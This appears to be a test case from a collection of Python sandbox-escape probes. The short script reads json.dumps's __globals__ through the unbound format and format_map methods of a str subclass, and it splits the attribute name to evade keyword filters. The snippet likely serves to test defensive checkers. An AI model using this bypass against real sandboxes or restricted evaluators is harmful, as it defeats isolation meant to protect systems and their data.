# family: format-string leaks (str.format reached through a str subclass)
# goal: read a function's globals through the unbound str.format of a subclass of str
import json


class Text(str):
    pass


print(Text.format("{0.__glo" + "bals__}", json.dumps))
print(Text.format_map("{f.__glo" + "bals__}", {"f": json.dumps}))
